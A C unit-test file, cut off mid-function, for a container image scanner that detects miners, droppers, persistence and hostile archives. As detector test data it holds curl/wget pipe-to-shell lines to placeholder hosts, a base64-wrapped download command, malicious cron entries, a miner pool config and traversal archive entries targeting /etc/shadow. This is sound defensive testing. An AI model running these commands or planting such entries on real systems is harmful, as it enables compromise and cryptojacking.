/* Image scanner: whiteouts and hidden-in-layers, each content check, the tar
 * index, the streaming walker against hostile archives (tar bomb, gzip bomb,
 * traversal, symlink tricks and loops, truncated gzip, nested depth) and the
 * image sources with a malformed manifest.json. Archives are generated here
 * with libarchive's writer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <archive.h>
#include <archive_entry.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "core/log.h"
#include "detectors/content/base64_runs.h"
#include "detectors/content/content_scan.h"
#include "detectors/content/exe_sections.h"
#include "detectors/content/image_scan.h"
#include "detectors/content/script_checks.h"
#include "detectors/content/seen_archives.h"
#include "detectors/content/wasm_module.h"
#include "sources/image/dir_walk.h"
#include "sources/image/layer_walk.h"
#include "sources/image/tar_index.h"
#include "sources/image/whiteout.h"

/* ---------- archive builder ---------- */

struct ent {
	const char *path;
	const char *data;   /* NULL: directory unless link/sym given */
	size_t len;         /* 0: strlen(data) */
	const char *symlink, *hardlink;
};

static uint8_t *build_archive(const struct ent *e, size_t n, const char *filter, size_t *out_len)
{
	size_t cap = 64u << 20;
	uint8_t *buf = malloc(cap);
	assert_non_null(buf);
	struct archive *a = archive_write_new();
	archive_write_set_format_pax_restricted(a);
	if (filter && !strcmp(filter, "gzip"))
		archive_write_add_filter_gzip(a);
	else if (filter && !strcmp(filter, "zstd"))
		archive_write_add_filter_zstd(a);
	archive_write_set_bytes_in_last_block(a, 1);
	size_t used = 0;
	assert_int_equal(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *ae = archive_entry_new();
		archive_entry_set_pathname(ae, e[i].path);
		size_t len = e[i].data ? (e[i].len ? e[i].len : strlen(e[i].data)) : 0;
		if (e[i].symlink) {
			archive_entry_set_filetype(ae, AE_IFLNK);
			archive_entry_set_symlink(ae, e[i].symlink);
		} else if (e[i].hardlink) {
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_hardlink(ae, e[i].hardlink);
		} else if (e[i].data) {
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_size(ae, (la_int64_t)len);
		} else {
			archive_entry_set_filetype(ae, AE_IFDIR);
		}
		archive_entry_set_perm(ae, 0644);
		assert_int_equal(archive_write_header(a, ae), ARCHIVE_OK);
		if (e[i].data && !e[i].symlink && !e[i].hardlink)
			assert_int_equal(archive_write_data(a, e[i].data, len), (la_ssize_t)len);
		archive_entry_free(ae);
	}
	archive_write_close(a);
	archive_write_free(a);
	*out_len = used;
	return buf;
}

/* Writes buf into a new file named from the mkstemp template path. */
static void write_temp(char *path, const uint8_t *buf, size_t len)
{
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, buf, len), (ssize_t)len);
	close(fd);
}

/* ---------- walker harness ---------- */

struct seen {
	char paths[64][256];
	size_t n;
	char errors[16][512];
	size_t n_err;
	size_t files;
};

static void seen_entry(void *user, const struct hh_walk_entry *e)
{
	struct seen *s = user;
	if (s->n < 64)
		snprintf(s->paths[s->n++], 256, "%s", e->path);
	if (e->type == HH_WALK_FILE)
		s->files++;
}

static void seen_error(void *user, const char *label, const char *path, const char *msg)
{
	struct seen *s = user;
	if (s->n_err < 16)
		snprintf(s->errors[s->n_err], 512, "%s: %s: %s", label, path, msg);
	s->n_err++;
}

static bool has_path(const struct seen *s, const char *p)
{
	for (size_t i = 0; i < s->n; i++)
		if (!strcmp(s->paths[i], p))
			return true;
	return false;
}

static bool has_error(const struct seen *s, const char *needle)
{
	for (size_t i = 0; i < s->n_err && i < 16; i++)
		if (strstr(s->errors[i], needle))
			return true;
	return false;
}

static void default_limits(struct hh_scan_limits *l)
{
	hh_scan_limits_from_config(l, NULL);
}

static int walk_buf(const uint8_t *buf, size_t len, const struct hh_scan_limits *lim, struct seen *s)
{
	memset(s, 0, sizeof(*s));
	struct hh_walk_budget b = { 0 };
	struct hh_walk_cb cb = { seen_entry, seen_error, s, NULL };
	struct hh_blob_src src = { -1, buf, len };
	return hh_walk_blob(&src, 0, len, "test-layer", lim, &b, &cb);
}

/* ---------- whiteouts ---------- */

static void whiteout_classify(void **state)
{
	(void)state;
	char t[256];
	assert_int_equal(hh_whiteout_classify("opt/stage/.wh.miner", t, sizeof(t)), HH_WH_FILE);
	assert_string_equal(t, "opt/stage/miner");
	assert_int_equal(hh_whiteout_classify(".wh.tmp", t, sizeof(t)), HH_WH_FILE);
	assert_string_equal(t, "tmp");
	assert_int_equal(hh_whiteout_classify("var/lib/.wh..wh..opq", t, sizeof(t)), HH_WH_OPAQUE);
	assert_string_equal(t, "var/lib");
	assert_int_equal(hh_whiteout_classify(".wh..wh..opq", t, sizeof(t)), HH_WH_OPAQUE);
	assert_string_equal(t, "");
	assert_int_equal(hh_whiteout_classify("etc/wh.conf", t, sizeof(t)), HH_WH_NONE);
	assert_int_equal(hh_whiteout_classify("etc/.wh.", t, sizeof(t)), HH_WH_NONE);
	assert_int_equal(hh_whiteout_classify("etc/.wh..wh.plnk", t, sizeof(t)), HH_WH_NONE);
}

static void hidden_tracking(void **state)
{
	(void)state;
	struct hh_hidden h;
	hh_hidden_init(&h);
	size_t a = hh_hidden_add(&h, "opt/stage/miner", 1);      /* deleted by whiteout of parent in 2 */
	size_t b = hh_hidden_add(&h, "var/lib/x/cfg.json", 1);   /* opaque var/lib in 3 */
	size_t c = hh_hidden_add(&h, "usr/bin/kworkerd", 1);     /* replaced in 2 */
	size_t d = hh_hidden_add(&h, "srv/www/index.html", 2);   /* same-layer whiteout: stays */
	size_t e = hh_hidden_add(&h, "opt/stagex/miner", 1);     /* prefix but not below */
	assert_int_equal(hh_hidden_add(&h, "opt/stage/miner", 1), a);
	for (int i = 0; i < 200; i++) { /* many candidates: the index grows */
		char p[64];
		snprintf(p, sizeof(p), "filler/%d", i);
		assert_int_not_equal(hh_hidden_add(&h, p, 0), SIZE_MAX);
	}
	hh_hidden_on_whiteout(&h, 2, "opt/stage");
	hh_hidden_on_entry(&h, 2, "usr/bin/kworkerd");
	hh_hidden_on_whiteout(&h, 2, "srv/www/index.html");
	hh_hidden_on_opaque(&h, 3, "var/lib");
	hh_hidden_on_opaque(&h, 3, "opt/stage"); /* already hidden in 2: first one kept */
	assert_int_equal(h.c[a].hidden_layer, 2);
	assert_int_equal(h.c[a].how, HH_HIDDEN_DELETED);
	assert_int_equal(h.c[b].hidden_layer, 3);
	assert_int_equal(h.c[b].how, HH_HIDDEN_OPAQUE);
	assert_int_equal(h.c[c].hidden_layer, 2);
	assert_int_equal(h.c[c].how, HH_HIDDEN_REPLACED);
	assert_int_equal(h.c[d].hidden_layer, -1);
	assert_int_equal(h.c[e].hidden_layer, -1);
	hh_hidden_on_opaque(&h, 4, ""); /* opaque root hides every lower layer */
	assert_int_equal(h.c[e].hidden_layer, 4);
	assert_int_equal(h.c[d].hidden_layer, 4);
	hh_hidden_free(&h);
}

/* ---------- executables ---------- */

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static void put32(uint8_t *p, uint32_t v) { for (int i = 0; i < 4; i++) p[i] = (uint8_t)(v >> (8 * i)); }
static void put64(uint8_t *p, uint64_t v) { for (int i = 0; i < 8; i++) p[i] = (uint8_t)(v >> (8 * i)); }

/* ELF64: header, .text (random: high entropy), .shstrtab, 3 section headers; no PT_INTERP. */
static size_t make_elf(uint8_t *b, size_t text_len, bool random_text)
{
	memset(b, 0, 64);
	memcpy(b, "\x7f" "ELF", 4);
	b[4] = 2; b[5] = 1; b[6] = 1;
	put16(b + 16, 2); put16(b + 18, 62);
	size_t text_off = 64, str_off = text_off + text_len;
	const char strtab[] = "\0.text\0.shstrtab\0";
	memcpy(b + str_off, strtab, sizeof(strtab));
	size_t sh_off = (str_off + sizeof(strtab) + 7) & ~(size_t)7;
	uint32_t x = 12345;
	for (size_t i = 0; i < text_len; i++) {
		x = x * 1103515245u + 12345u;
		b[text_off + i] = random_text ? (uint8_t)(x >> 16) : (uint8_t)(i % 7);
	}
	put64(b + 40, sh_off); put16(b + 52, 64); put16(b + 58, 64); put16(b + 60, 3); put16(b + 62, 2);
	uint8_t *sh = b + sh_off;
	memset(sh, 0, 3 * 64);
	put32(sh + 64 + 0, 1); put32(sh + 64 + 4, 1); put64(sh + 64 + 8, 6); put64(sh + 64 + 24, text_off); put64(sh + 64 + 32, text_len);
	put32(sh + 128 + 0, 7); put32(sh + 128 + 4, 3); put64(sh + 128 + 24, str_off); put64(sh + 128 + 32, sizeof(strtab));
	return sh_off + 3 * 64;
}

static void exe_elf_sections(void **state)
{
	(void)state;
	uint8_t *b = calloc(1, 1 << 16);
	size_t n = make_elf(b, 16384, true);
	struct hh_exe_info x;
	assert_int_equal(hh_exe_parse(b, n, &x), HH_EXE_ELF);
	assert_string_equal(x.error, "");
	assert_true(x.is64);
	assert_true(x.is_static);
	assert_true(x.stripped);
	assert_int_equal(x.n_sections, 2);
	assert_string_equal(x.sections[0].name, ".text");
	assert_true(x.sections[0].exec);
	assert_true(x.max_entropy > 7.9);
	assert_string_equal(x.max_entropy_section, ".text");
	assert_false(x.upx);
	/* low-entropy text */
	n = make_elf(b, 16384, false);
	hh_exe_parse(b, n, &x);
	assert_true(x.max_entropy < 3.0);
	/* truncated: section headers cut off */
	assert_int_equal(hh_exe_parse(b, n - 100, &x), HH_EXE_ELF);
	assert_true(x.truncated);
	assert_string_not_equal(x.error, "");
	/* hostile offsets: shoff near UINT64_MAX, huge counts */
	put64(b + 40, UINT64_MAX - 10);
	put16(b + 60, 65535);
	assert_int_equal(hh_exe_parse(b, n, &x), HH_EXE_ELF);
	assert_string_not_equal(x.error, "");
	/* tiny */
	assert_int_equal(hh_exe_parse((const uint8_t *)"\x7f" "ELF", 4, &x), HH_EXE_ELF);
	assert_true(x.truncated);
	free(b);
	assert_true(hh_entropy((const uint8_t *)"\0\0\0\0", 4) == 0.0);
	uint8_t all[256];
	for (int i = 0; i < 256; i++)
		all[i] = (uint8_t)i;
	assert_true(hh_entropy(all, 256) > 7.999);
}

static void exe_pe_upx(void **state)
{
	(void)state;
	uint8_t b[4096] = { 0 };
	b[0] = 'M'; b[1] = 'Z';
	put32(b + 0x3c, 0x80);
	memcpy(b + 0x80, "PE\0\0", 4);
	put16(b + 0x86, 2);        /* sections */
	put16(b + 0x94, 0xf0);     /* optional header size */
	put16(b + 0x98, 0x20b);
	uint8_t *s = b + 0x80 + 24 + 0xf0;
	memcpy(s, "UPX0", 4); put32(s + 16, 0); put32(s + 20, 0x400); put32(s + 36, 0xe0000080);
	memcpy(s + 40, "UPX1", 4); put32(s + 56, 0x200); put32(s + 60, 0x400); put32(s + 76, 0xe0000040);
	struct hh_exe_info x;
	assert_int_equal(hh_exe_parse(b, sizeof(b), &x), HH_EXE_PE);
	assert_true(x.upx);
	assert_true(x.is64);
	assert_int_equal(x.n_sections, 2);
	assert_true(x.sections[1].exec);
	/* section table past the end */
	put16(b + 0x86, 96);
	hh_exe_parse(b, sizeof(b), &x);
	assert_true(x.truncated);
	/* e_lfanew out of bounds */
	put32(b + 0x3c, 0xfffffff0);
	hh_exe_parse(b, sizeof(b), &x);
	assert_string_not_equal(x.error, "");
}

/* ---------- wasm ---------- */

static size_t leb(uint8_t *o, uint32_t v)
{
	size_t n = 0;
	do {
		uint8_t b = v & 0x7f;
		v >>= 7;
		o[n++] = v ? (b | 0x80) : b;
	} while (v);
	return n;
}

static size_t make_wasm(uint8_t *m, const char *export_name, bool tables)
{
	size_t n = 0;
	memcpy(m, "\0asm\1\0\0\0", 8);
	n = 8;
	uint8_t sec[512];
	size_t s = 0, l = strlen(export_name);
	s += leb(sec + s, 1);
	s += leb(sec + s, (uint32_t)l);
	memcpy(sec + s, export_name, l);
	s += l;
	sec[s++] = 0;
	s += leb(sec + s, 0);
	m[n++] = 7;
	n += leb(m + n, (uint32_t)s);
	memcpy(m + n, sec, s);
	n += s;
	if (tables) {
		static const uint8_t blob[] = { 0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b,
						0xfe, 0xd7, 0xab, 0x76, 0x01, 0, 0, 0, 0, 0, 0, 0, 0x82, 0x80, 0,
						0, 0, 0, 0, 0, 0x8a, 0x80, 0, 0, 0, 0, 0, 0x80 };
		s = 0;
		s += leb(sec + s, 1);
		sec[s++] = 0;
		sec[s++] = 0x41; sec[s++] = 0; sec[s++] = 0x0b;
		s += leb(sec + s, sizeof(blob));
		memcpy(sec + s, blob, sizeof(blob));
		s += sizeof(blob);
		m[n++] = 11;
		n += leb(m + n, (uint32_t)s);
		memcpy(m + n, sec, s);
		n += s;
	}
	return n;
}

static void wasm_checks(void **state)
{
	(void)state;
	uint8_t m[1024];
	struct hh_wasm_info w;
	size_t n = make_wasm(m, "_cryptonight_hash", true);
	assert_true(hh_wasm_parse(m, n, &w));
	assert_string_equal(w.error, "");
	assert_int_equal(w.n_exports, 1);
	assert_int_equal(w.miner_names, 1);
	assert_string_equal(w.miner_name, "_cryptonight_hash");
	assert_true(w.aes_sbox);
	assert_true(w.keccak_rc);
	n = make_wasm(m, "add", false);
	assert_true(hh_wasm_parse(m, n, &w));
	assert_int_equal(w.miner_names, 0);
	assert_false(w.aes_sbox);
	/* section size past the end */
	m[9] = 0x7f;
	assert_true(hh_wasm_parse(m, n, &w));
	assert_string_not_equal(w.error, "");
	/* LEB128 that never ends */
	uint8_t bad[20] = { 0, 'a', 's', 'm', 1, 0, 0, 0, 7 };
	memset(bad + 9, 0xff, 11);
	assert_true(hh_wasm_parse(bad, sizeof(bad), &w));
	assert_string_not_equal(w.error, "");
	assert_false(hh_wasm_parse((const uint8_t *)"\0asm", 4, &w));
	assert_true(hh_wasm_miner_name("RandomX_Init", 12));
	assert_false(hh_wasm_miner_name("memcpy", 6));
}

/* ---------- text checks ---------- */

struct b64_seen {
	int n;
	int align[8];
	char text[8][128];
};

static bool b64_cb(void *user, size_t off, int align, const char *dec, size_t len)
{
	struct b64_seen *s = user;
	if (s->n < 8) {
		s->align[s->n] = align;
		snprintf(s->text[s->n], 128, "%.*s", (int)len, dec);
		s->n++;
	}
	return true;
}

static void base64_alignments(void **state)
{
	(void)state;
	const char *payload = "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo"; /* curl -s http://10.0.0.1/x.sh | sh */
	struct hh_b64_limits lim = { 24, 1 << 20, NULL, NULL };
	for (int a = 0; a < 4; a++) {
		char text[256];
		/* a prefix of base64-alphabet characters glued to the run shifts its alignment */
		snprintf(text, sizeof(text), "x=\"%.*s%s\"", a, "QQQ", payload);
		struct b64_seen s = { 0 };
		hh_b64_scan(text, strlen(text), &lim, b64_cb, &s);
		bool found = false;
		for (int i = 0; i < s.n; i++)
			if (strstr(s.text[i], "curl -s http://10.0.0.1/x.sh | sh") && s.align[i] == a)
				found = true;
		assert_true(found);
	}
	uint8_t out[64];
	assert_int_equal(hh_b64_decode("aGk=", 4, out), 2);
	assert_int_equal(hh_b64_decode("a$k=", 4, out), -1);
	/* short runs and binary decodings are not reported */
	struct b64_seen s = { 0 };
	const char *t = "abc ZZZZ AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
	hh_b64_scan(t, strlen(t), &lim, b64_cb, &s);
	assert_int_equal(s.n, 0);
}

static void droppers_and_persistence(void **state)
{
	(void)state;
	struct hh_dropper d;
	const char *yes[] = {
		"curl -fsSL http://x/y.sh | sh",
		"wget -q -O- http://x/y | sudo bash -s",
		"  (curl -s http://x/i.sh || wget -O- http://x/i.sh) | /bin/bash",
		"echo aGkK | base64 -d | sh",
		"sh -c \"$(curl -fsSL http://x/i.sh)\"",
		"bash <(wget -qO- http://x/i.sh)",
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++) {
		assert_true(hh_find_dropper(yes[i], strlen(yes[i]), &d));
	}
	const char *no[] = {
		"curl -fsSL http://x/y.tar.gz -o /tmp/y.tar.gz",
		"cat file | grep curl | wc -l",
		"wget http://x/a | tee log",
		"shell | sh", /* no download */
	};
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		assert_false(hh_find_dropper(no[i], strlen(no[i]), &d));
	assert_int_equal(hh_persist_kind("/etc/crontab"), HH_PERSIST_CRON);
	assert_int_equal(hh_persist_kind("etc/cron.d/x"), HH_PERSIST_CRON);
	assert_int_equal(hh_persist_kind("var/spool/cron/crontabs/root"), HH_PERSIST_CRON);
	assert_int_equal(hh_persist_kind("etc/systemd/system/x.service"), HH_PERSIST_SYSTEMD);
	assert_int_equal(hh_persist_kind("etc/systemd/system/x.conf"), HH_PERSIST_NONE);
	assert_int_equal(hh_persist_kind("etc/init.d/x"), HH_PERSIST_RC);
	assert_int_equal(hh_persist_kind("etc/rc.local"), HH_PERSIST_RC);
	assert_int_equal(hh_persist_kind("usr/bin/cron"), HH_PERSIST_NONE);
	assert_true(hh_cmd_runs_staged("/tmp/.x/kworker", 15));
	assert_true(hh_cmd_runs_staged("root /dev/shm/a", 15));
	assert_false(hh_cmd_runs_staged("/usr/sbin/logrotate /etc/logrotate.conf", 39));
}

static size_t cmd_count;
static char cmd_last[128];
static void cmd_cb(void *user, const char *cmd, size_t len, size_t line)
{
	cmd_count++;
	snprintf(cmd_last, sizeof(cmd_last), "%.*s", (int)len, cmd);
}

static void cron_commands(void **state)
{
	(void)state;
	const char *cron = "# m h dom mon dow user cmd\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
			   "@reboot /tmp/.x/kworkerd\n";
	cmd_count = 0;
	assert_int_equal(hh_persist_commands(HH_PERSIST_CRON, cron, strlen(cron), cmd_cb, NULL), 2);
	assert_string_equal(cmd_last, "/tmp/.x/kworkerd");
	const char *unit = "[Service]\nExecStartPre=/bin/true\nExecStart=/usr/local/bin/x --donate-level 1\n";
	cmd_count = 0;
	assert_int_equal(hh_persist_commands(HH_PERSIST_SYSTEMD, unit, strlen(unit), cmd_cb, NULL), 2);
	assert_string_equal(cmd_last, "/usr/local/bin/x --donate-level 1");
}

/* ---------- content scan (one buffer at a time) ---------- */

static struct hh_content *content(void)
{
	struct hh_content_opts o;
	hh_content_opts_from_config(&o, NULL);
	char err[256];
	struct hh_content *c = hh_content_new(&o, NULL, 0, err, sizeof(err));
	assert_non_null(c);
	return c;
}

/* Scans path with the default limits (threads >= 0: scan.threads). */
static void scan_path(const char *path, int threads, struct hh_scan_result *res)
{
	struct hh_content *c = content();
	struct hh_scan_limits lim;
	default_limits(&lim);
	if (threads >= 0)
		lim.scan_threads = threads;
	assert_int_equal(hh_scan_target(path, c, &lim, res), 0);
	hh_content_free(c);
}

static void free_result(struct hh_scan_result *res)
{
	hh_findings_clear(&res->findings);
	free(res->findings.items);
}

static bool list_has(const struct hh_findings *l, const char *rule, enum hh_severity min)
{
	for (size_t i = 0; i < l->n; i++)
		if (!strcmp(l->items[i]->rule, rule) && l->items[i]->severity >= min)
			return true;
	return false;
}

static void scan_one(struct hh_content *c, const char *fs, const void *data, size_t len, struct hh_findings *out)
{
	hh_findings_clear(out);
	hh_content_scan(c, fs, fs, data, len, out, NULL, 0);
}

static void content_checks(void **state)
{
	(void)state;
	struct hh_content *c = content();
	struct hh_findings l = { 0 };
	const char *cfg = "{\"pools\":[{\"url\":\"stratum+tcp://pool.minexmr.com:4444\",\"user\":\"x\"}],\"donate-level\":1}";
	scan_one(c, "/opt/config.json", cfg, strlen(cfg), &l);
	assert_true(list_has(&l, "miner.config", HH_SEV_HIGH));
	assert_true(list_has(&l, "miner.pool-domain", HH_SEV_HIGH));
	assert_false(list_has(&l, "miner.exe.xmrig", HH_SEV_INFO)); /* not an executable */
	const char *js = "<script>var m=new CoinHive.Anonymous('k');m.start();</script><script src=coinhive.min.js>";
	scan_one(c, "/srv/index.html", js, strlen(js), &l);
	assert_true(list_has(&l, "miner.web.coinhive", HH_SEV_HIGH));
	const char *cron = "*/5 * * * * root curl -s http://198.51.100.4/a.sh | sh\n";
	scan_one(c, "/etc/cron.d/update", cron, strlen(cron), &l);
	assert_true(list_has(&l, "scan.persistence.cron", HH_SEV_HIGH));
	assert_true(list_has(&l, "scan.dropper.pipe-shell", HH_SEV_HIGH));
	const char *plain_cron = "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n";
	scan_one(c, "/etc/cron.d/logrotate", plain_cron, strlen(plain_cron), &l);
	assert_true(list_has(&l, "scan.persistence.cron-entry", HH_SEV_INFO));
	assert_int_equal(hh_findings_max_severity(&l), HH_SEV_INFO);
	/* base64-wrapped miner command, decoded twice */
	const char *b64 = "payload='ZWNobyAiTFhjZ2MzUnlZWFIxYlN0MFkzQTZMeTl3YjI5c0xtVjRZVzF3YkdVdWIzSm5Pak16TXpNPSIgfCBiYXNlNjQgLWQ='\n";
	scan_one(c, "/opt/x.sh", b64, strlen(b64), &l);
	assert_true(list_has(&l, "scan.dropper.base64", HH_SEV_MEDIUM));
	const char *benign = "#!/bin/sh\nset -e\nexec /usr/bin/nginx -g 'daemon off;'\n";
	scan_one(c, "/docker-entrypoint.sh", benign, strlen(benign), &l);
	assert_int_equal(l.n, 0);
	uint8_t m[1024];
	size_t n = make_wasm(m, "cryptonight_hash", true);
	scan_one(c, "/srv/cn.wasm", m, n, &l);
	assert_true(list_has(&l, "miner.wasm.cryptonight", HH_SEV_HIGH));
	n = make_wasm(m, "hash", true);
	scan_one(c, "/srv/x.wasm", m, n, &l);
	assert_true(list_has(&l, "miner.wasm.hash-tables", HH_SEV_MEDIUM));
	assert_false(list_has(&l, "miner.wasm.hash-tables", HH_SEV_HIGH));
	uint8_t *elf = calloc(1, 1 << 16);
	n = make_elf(elf, 16384, true);
	scan_one(c, "/usr/bin/x", elf, n, &l);
	assert_true(list_has(&l, "scan.packed.entropy", HH_SEV_MEDIUM)); /* static stripped + packed */
	free(elf);
	hh_findings_clear(&l);
	free(l.items);
	hh_content_free(c);
}

/* ---------- tar index ---------- */

static void tar_index_cases(void **state)
{
	(void)state;
	char longname[300];
	memset(longname, 'a', sizeof(longname) - 1);
	longname[sizeof(longname) - 1] = 0;
	struct ent e[] = { { "manifest.json", "[]", 0, NULL, NULL }, { longname, "x", 0, NULL, NULL },
			   { "./blobs/sha256/ab", "layer", 0, NULL, NULL } };
	size_t len;
	uint8_t *t = build_archive(e, 3, NULL, &len);
	struct hh_tar_index idx;
	char err[256];
	struct hh_blob_src src = { -1, t, len };
	assert_int_equal(hh_tar_index_build(&src, 100, &idx, err, sizeof(err)), 0);
	assert_int_equal(idx.n, 3);
	assert_non_null(hh_tar_index_find(&idx, longname));
	const struct hh_tar_entry *b = hh_tar_index_find(&idx, "blobs/sha256/ab");
	assert_non_null(b);
	assert_int_equal(b->size, 5);
	assert_memory_equal(t + b->offset, "layer", 5);
	uint64_t b_off = b->offset;
	hh_tar_index_free(&idx);
	/* entry limit */
	assert_int_equal(hh_tar_index_build(&src, 2, &idx, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "entries"));
	hh_tar_index_free(&idx);
	/* truncated data */
	src.size = b_off + 2;
	assert_int_equal(hh_tar_index_build(&src, 100, &idx, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "truncated"));
	hh_tar_index_free(&idx);
	/* bad checksum in the second header */
	src.size = len;
	t[512 + 512 + 148] ^= 1;
	int rc = hh_tar_index_build(&src, 100, &idx, err, sizeof(err));
	assert_true(rc != 0);
	hh_tar_index_free(&idx);
	/* not a tar */
	struct hh_blob_src junk = { -1, (const uint8_t *)"hello", 5 };
	assert_int_equal(hh_tar_index_build(&junk, 100, &idx, err, sizeof(err)), 1);
	hh_tar_index_free(&idx);
	free(t);
}

/* ---------- hostile archives ---------- */

static void walk_formats(void **state)
{
	(void)state;
	struct ent e[] = { { "etc/", NULL, 0, NULL, NULL }, { "etc/crontab", "* * * * * root x\n", 0, NULL, NULL },
			   { "bin/sh", NULL, 0, "busybox", NULL } };
	const char *filters[] = { NULL, "gzip", "zstd" };
	struct hh_scan_limits lim;
	default_limits(&lim);
	for (int f = 0; f < 3; f++) {
		size_t len;
		uint8_t *t = build_archive(e, 3, filters[f], &len);
		struct seen s;
		assert_int_equal(walk_buf(t, len, &lim, &s), 0);
		assert_true(has_path(&s, "etc/crontab"));
		assert_true(has_path(&s, "bin/sh"));
		assert_true(has_path(&s, "etc"));
		assert_int_equal(s.files, 1);
		free(t);
	}
}

static void hostile_traversal_and_links(void **state)
{
	(void)state;
	struct ent e[] = {
		{ "../../etc/cron.d/evil", "* * * * * root sh\n", 0, NULL, NULL },
		{ "/etc/passwd", "root:x:0:0::/:/bin/sh\n", 0, NULL, NULL },
		{ "evil", NULL, 0, "/etc", NULL },
		{ "evil/cron.d/job", "x\n", 0, NULL, NULL },
		{ "hl", NULL, 0, NULL, "../../etc/shadow" },
		{ "loop1", NULL, 0, "loop2", NULL },
		{ "loop2", NULL, 0, "loop1", NULL },
		{ "loop1/x", "y\n", 0, NULL, NULL },
	};
	size_t len;
	uint8_t *t = build_archive(e, sizeof(e) / sizeof(e[0]), "gzip", &len);
	struct hh_scan_limits lim;
	default_limits(&lim);
	struct seen s;
	int errors = walk_buf(t, len, &lim, &s);
	assert_true(errors >= 5);
	assert_true(has_error(&s, "path traversal"));
	assert_true(has_error(&s, "../../etc/cron.d/evil"));
	assert_true(has_error(&s, "absolute path"));
	assert_true(has_error(&s, "symlink evil"));
	assert_true(has_error(&s, "hard link target ../../etc/shadow"));
	assert_true(has_error(&s, "symlink loop1"));
	/* the content is still scanned, named without the leading '/' */
	assert_true(has_path(&s, "etc/passwd"));
	assert_true(has_path(&s, "evil/cron.d/job"));
	free(t);
}

static void hostile_tar_bomb(void **state)
{
	(void)state;
	enum { N = 3000 };
	struct ent *e = calloc(N, sizeof(*e));
	char (*names)[32] = calloc(N, 32);
	for (int i = 0; i < N; i++) {
		snprintf(names[i], 32, "f/%d", i);
		e[i] = (struct ent){ names[i], "x", 0, NULL, NULL };
	}
	size_t len;
	uint8_t *t = build_archive(e, N, "gzip", &len);
	struct hh_scan_limits lim;
	default_limits(&lim);
	lim.max_entries = 1000;
	struct seen s;
	walk_buf(t, len, &lim, &s);
	assert_true(has_error(&s, "scan.max_entries"));
	free(t);
	free(e);
	free(names);
}

static void hostile_gzip_bomb(void **state)
{
	(void)state;
	size_t big = 48u << 20;
	char *zeros = calloc(1, big);
	struct ent e[] = { { "a", "first file\n", 0, NULL, NULL }, { "zeros", zeros, big, NULL, NULL } };
	size_t len;
	uint8_t *t = build_archive(e, 2, "gzip", &len);
	assert_true(len < big / 200);
	struct hh_scan_limits lim;
	default_limits(&lim);
	lim.ratio_min_bytes = 8u << 20;
	lim.max_ratio = 100;
	struct seen s;
	walk_buf(t, len, &lim, &s);
	assert_true(has_error(&s, "decompression bomb"));
	assert_true(has_path(&s, "a"));
	/* the same stream under the total-bytes limit */
	default_limits(&lim);
	lim.max_total_bytes = 4u << 20;
	walk_buf(t, len, &lim, &s);
	assert_true(has_error(&s, "scan.max_total_bytes"));
	/* and the per-file limit: first part scanned */
	default_limits(&lim);
	lim.max_file_bytes = 1u << 20;
	walk_buf(t, len, &lim, &s);
	assert_true(has_error(&s, "larger than scan.max_file_bytes"));
	free(t);
	free(zeros);
}

static void hostile_truncated_gzip(void **state)
{
	(void)state;
	char *blob = malloc(1 << 20);
	uint32_t x = 7;
	for (int i = 0; i < (1 << 20); i++) {
		x = x * 1103515245u + 12345u;
		blob[i] = (char)(x >> 16);
	}
	struct ent e[] = { { "etc/first", "first\n", 0, NULL, NULL }, { "big", blob, 1 << 20, NULL, NULL },
			   { "etc/last", "last\n", 0, NULL, NULL } };
	size_t len;
	uint8_t *t = build_archive(e, 3, "gzip", &len);
	struct hh_scan_limits lim;
	default_limits(&lim);
	struct seen s;
	int errs = walk_buf(t, len / 2, &lim, &s);
	assert_true(errs >= 1);
	assert_true(has_path(&s, "etc/first"));
	assert_false(has_path(&s, "etc/last"));
	/* garbage that is not an archive at all */
	errs = walk_buf((const uint8_t *)"\x1f\x8bthis is not gzip", 18, &lim, &s);
	assert_true(errs >= 1);
	free(t);
	free(blob);
}

static void nested_archives(void **state)
{
	(void)state;
	struct ent inner[] = { { "xmrig-6.21/config.json", "{\"pools\":[]}", 0, NULL, NULL } };
	size_t ilen;
	uint8_t *in = build_archive(inner, 1, "gzip", &ilen);
	struct ent mid[] = { { "dl/xmrig.tar.gz", (const char *)in, ilen, NULL, NULL } };
	size_t mlen;
	uint8_t *mt = build_archive(mid, 1, "zstd", &mlen);
	struct ent outer[] = { { "opt/bundle.tar.zst", (const char *)mt, mlen, NULL, NULL } };
	size_t olen;
	uint8_t *ot = build_archive(outer, 1, NULL, &olen);
	struct hh_scan_limits lim;
	default_limits(&lim);
	struct seen s;
	walk_buf(ot, olen, &lim, &s);
	assert_true(has_path(&s, "opt/bundle.tar.zst!/dl/xmrig.tar.gz!/xmrig-6.21/config.json"));
	lim.max_depth = 1;
	walk_buf(ot, olen, &lim, &s);
	assert_true(has_path(&s, "opt/bundle.tar.zst!/dl/xmrig.tar.gz"));
	assert_false(has_path(&s, "opt/bundle.tar.zst!/dl/xmrig.tar.gz!/xmrig-6.21/config.json"));
	assert_true(has_error(&s, "scan.max_depth"));
	free(in);
	free(mt);
	free(ot);
}


/* ---------- copies of archives: scanned once when clean ---------- */

static void seen_table(void **state)
{
	(void)state;
	struct hh_seen_archives *s = hh_seen_new();
	assert_non_null(s);
	uint8_t a[32], b[32];
	hh_seen_digest((const uint8_t *)"a", 1, a);
